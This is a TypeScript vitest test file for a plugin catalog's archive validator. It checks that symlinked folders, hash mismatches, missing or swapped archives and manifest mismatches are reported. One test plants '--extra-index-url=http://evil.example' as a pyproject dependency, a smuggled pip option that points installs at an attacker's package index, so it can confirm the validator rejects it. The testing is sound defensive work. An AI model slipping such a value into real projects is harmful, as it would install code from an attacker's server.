import { createHash } from 'node:crypto';
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildYazlZip, hashZip } from '@magellon/hub-core/test-support';
import { afterAll, describe, expect, it } from 'vitest';
import { checkCatalogArchives } from './check-archives';
import { loadCatalog } from './load-catalog';
import { readZipEntry } from './zip';

const STARTER = join(import.meta.dirname, '../../../../catalog');
const ROOT = mkdtempSync(join(tmpdir(), 'hub-check-archives-'));
afterAll(() => rmSync(ROOT, { recursive: true, force: true }));

/** A private copy of the starter catalog to damage. */
function copyCatalog(): string {
  const dir = mkdtempSync(join(ROOT, 'catalog-'));
  cpSync(STARTER, dir, { recursive: true });
  return dir;
}

async function archiveFindings(dir: string) {
  const catalog = await loadCatalog(dir, { displayFrom: dir });
  expect(catalog.findings.filter((f) => f.severity === 'error')).toEqual([]);
  return checkCatalogArchives(dir, catalog.entries, { displayFrom: dir });
}

describe('checkCatalogArchives', () => {
  it('never reads an archive through a linked folder that leads out of the catalog', async () => {
    const dir = copyCatalog();
    const outside = mkdtempSync(join(ROOT, 'outside-'));
    cpSync(join(dir, 'assets'), join(outside, 'assets'), { recursive: true });
    rmSync(join(dir, 'assets'), { recursive: true });
    symlinkSync(join(outside, 'assets'), join(dir, 'assets'));
    const findings = await archiveFindings(dir);
    expect(findings.length).toBeGreaterThan(0);
    expect(new Set(findings.map((f) => f.code))).toEqual(new Set(['path.outside-tree']));
  });

  it('refuses an archive whose uv pyproject hands pip an option, at the pyproject line', async () => {
    const dir = copyCatalog();
    const file = join(dir, 'assets/plugins/fft-1.0.0.mpn');
    const files = new Map<string, Buffer>();
    for (const d of await hashZip(file)) files.set(d.name, await readZipEntry(file, d.name, 1 << 20));
    const pyproject =
      '[project]\nname = "fft"\ndependencies = ["numpy", "--extra-index-url=http://evil.example"]\n';
    files.set('pyproject.toml', Buffer.from(pyproject));
    const digest = createHash('sha256').update(pyproject).digest('hex');
    const manifest = files
      .get('manifest.yaml')!
      .toString('utf8')
      .replace(/^( {2}pyproject\.toml: )[0-9a-f]{64}$/m, `$1${digest}`);
    files.set('manifest.yaml', Buffer.from(manifest));
    files.set('plugin.yaml', Buffer.from(manifest));
    const bytes = await buildYazlZip([...files].map(([name, data]) => ({ name, data })));
    writeFileSync(file, bytes);
    const entry = join(dir, 'plugins/fft/1.0.0.yaml');
    writeFileSync(
      entry,
      readFileSync(entry, 'utf8')
        .replace(/sha256: [0-9a-f]{64}/, `sha256: ${createHash('sha256').update(bytes).digest('hex')}`)
        .replace(/size_bytes: \d+/, `size_bytes: ${bytes.length}`),
    );
    const findings = await archiveFindings(dir);
    expect(findings.map((f) => [f.file, f.code, f.line])).toEqual([
      ['assets/plugins/fft-1.0.0.mpn!pyproject.toml', 'archive.unsafe-dependency', 3],
    ]);
    expect(findings[0]!.message).toMatch(/"--extra-index-url=http:\/\/evil.example" is a pip option/);
  });

  it('finds nothing wrong with the starter catalog', async () => {
    expect(await archiveFindings(copyCatalog())).toEqual([]);
  });

  it('reports a changed archive byte as a sha256 mismatch on the entry line', async () => {
    const dir = copyCatalog();
    const file = join(dir, 'assets/plugins/topaz-0.3.0.mpn');
    const bytes = readFileSync(file);
    bytes[bytes.length - 30] = (bytes[bytes.length - 30]! + 1) % 256;
    writeFileSync(file, bytes);
    const findings = await archiveFindings(dir);
    expect(findings.map((f) => [f.file, f.code])).toEqual([
      ['plugins/topaz/0.3.0.yaml', 'archive.sha256-mismatch'],
    ]);
    expect(findings[0]!.line).toBeGreaterThan(1);
  });

  it('reports a missing archive and an entry that disagrees with its archive manifest', async () => {
    const dir = copyCatalog();
    unlinkSync(join(dir, 'assets/plugins/ptolemy-0.2.0.mpn'));
    const entry = join(dir, 'plugins/stack-maker/1.0.0.yaml');
    writeFileSync(
      entry,
      readFileSync(entry, 'utf8').replace('category: particle_extraction', 'category: ctf'),
    );
    const findings = await archiveFindings(dir);
    expect(findings.map((f) => [f.file, f.code])).toEqual([
      ['plugins/ptolemy/0.2.0.yaml', 'archive.missing'],
      ['plugins/stack-maker/1.0.0.yaml', 'archive.entry-mismatch'],
    ]);
    expect(findings[1]!.message).toMatch(/category is "ctf" here but "particle_extraction" in the archive/);
  });

  it('reports an archive swapped for another plugin’s (right sha256 in the entry, wrong contents)', async () => {
    const dir = copyCatalog();
    const entryFile = join(dir, 'plugins/fft/1.0.0.yaml');
    const other = readFileSync(join(dir, 'plugins/fft/1.1.0.yaml'), 'utf8');
    const sha = /sha256: (\w+)/.exec(other)![1]!;
    const size = /size_bytes: (\d+)/.exec(other)![1]!;
    cpSync(join(dir, 'assets/plugins/fft-1.1.0.mpn'), join(dir, 'assets/plugins/fft-1.0.0.mpn'));
    writeFileSync(
      entryFile,
      readFileSync(entryFile, 'utf8')
        .replace(/sha256: \w+/, `sha256: ${sha}`)
        .replace(/size_bytes: \d+/, `size_bytes: ${size}`),
    );
    const codes = (await archiveFindings(dir)).map((f) => f.code);
    expect(codes).toEqual(['archive.entry-mismatch', 'archive.entry-mismatch']);
  });
});
